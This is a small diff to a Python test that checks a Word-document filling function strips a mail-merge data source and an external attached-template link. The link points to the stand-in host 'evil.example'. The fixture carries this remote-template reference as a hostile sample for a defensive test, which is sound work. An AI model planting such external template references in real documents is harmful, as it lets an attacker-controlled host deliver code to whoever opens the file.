@@ -266,7 +266,8 @@ def test_the_data_source_of_a_mail_merge_is_cut_off() -> None:
         'Id="rId1" Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
         "</Relationships>"
     )
-    parts = {**members(docx("")), "word/settings.xml": settings, "word/_rels/settings.xml.rels": relations}
+    parts: dict[str, bytes | str] = {**members(docx(""))}
+    parts |= {"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations}
     left = all_xml(word.fill(packed(parts), {}))
     assert "evil.example" not in left
     assert "mailMerge" not in left
